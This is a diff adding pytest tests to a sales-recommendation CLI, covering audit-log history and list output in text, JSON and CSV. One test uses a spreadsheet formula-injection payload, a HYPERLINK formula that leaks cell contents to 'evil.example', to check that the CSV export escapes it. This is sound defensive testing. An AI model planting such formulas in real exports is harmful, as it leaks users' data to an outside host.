@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import random
 import subprocess
@@ -259,3 +261,69 @@ def test_options_come_from_playbook_environment_variables(cases_file: Path) -> N
     # an option on the command line wins over the environment
     result = CliRunner(env=env).invoke(main, [*args, "--lang", "zh"])
     assert json.loads(result.stdout.splitlines()[0])["recommendations"][0]["label"] == "积极跟进"
+
+
+def stored_log(tmp_path: Path, *lines: str) -> str:
+    """An audit log holding these JSON Lines cases, evaluated under the pipeline fixture."""
+    db = f"sqlite:///{tmp_path / 'log.db'}"
+    source = tmp_path / "stored.jsonl"
+    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    code, _, err = invoke(
+        "recommend", "--playbook", PIPELINE, "--input", str(source), "--as-of", "2026-11-27", "--db", db
+    )
+    assert code == 0, err
+    return db
+
+
+def test_list_and_history_carry_outcomes_and_the_playbook_in_every_format(tmp_path: Path) -> None:
+    from engine import load_playbook
+
+    content_hash = load_playbook(PIPELINE).content_hash
+    hot = {"opportunity": {"id": "opp-1", "weeks_to_close": 1, "win_rate": 80}, "account": {"id": "acc-1"}}
+    db = stored_log(tmp_path, json.dumps(hot), '{"opportunity": {"id": "opp-9", "weeks_to_close": 9}}')
+    code, out, err = invoke(
+        "outcome", "1", "follow_up", "--status", "accepted", "--who", "li.wei", "--why", "met the buyer", "--db", db
+    )
+    assert code == 0, err
+
+    code, out, _ = invoke("history", "opp-1", "--db", db)
+    assert code == 0
+    head, outcome_line = out.splitlines()
+    assert f"playbook pipeline 1 ({content_hash[:12]})" in head
+    assert "follow_up accepted by li.wei at 20" in outcome_line and outcome_line.endswith(" UTC: met the buyer")
+
+    code, out, _ = invoke("list", "--db", db)
+    assert code == 0 and "None" not in out  # the second case has no account: nothing says "account None"
+    assert "account" not in out.splitlines()[-1]
+
+    code, out, _ = invoke("list", "--db", db, "--format", "json")
+    first = json.loads(out.splitlines()[0])
+    assert first["playbook"] == {"id": "pipeline", "version": "1", "hash": content_hash}
+    [done] = first["outcomes"]
+    assert (done["action"], done["status"], done["who"], done["why"]) == (
+        "follow_up",
+        "accepted",
+        "li.wei",
+        "met the buyer",
+    )
+    assert done["at"].startswith("20")
+
+    code, out, _ = invoke("list", "--db", db, "--format", "csv")
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert [(r["playbook_id"], r["playbook_version"], r["playbook_hash"]) for r in rows] == [
+        ("pipeline", "1", content_hash)
+    ] * 2
+    assert rows[0]["outcomes"].startswith("follow_up accepted by li.wei at ") and rows[1]["outcomes"] == ""
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_escaped(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    case = {"id": formula, "opportunity": {"id": "+1", "account_id": "@acc", "weeks_to_close": 1, "win_rate": 80}}
+    db = stored_log(tmp_path, json.dumps(case))
+    code, out, _ = invoke("list", "--db", db, "--format", "csv")
+    [row] = list(csv.DictReader(io.StringIO(out)))
+    assert code == 0
+    assert (row["case"], row["record_id"], row["account_id"]) == ("'" + formula, "'+1", "'@acc")
+    # JSON is data, not a spreadsheet: it keeps the ids as they are
+    code, out, _ = invoke("list", "--db", db, "--format", "json")
+    assert json.loads(out)["case"] == formula
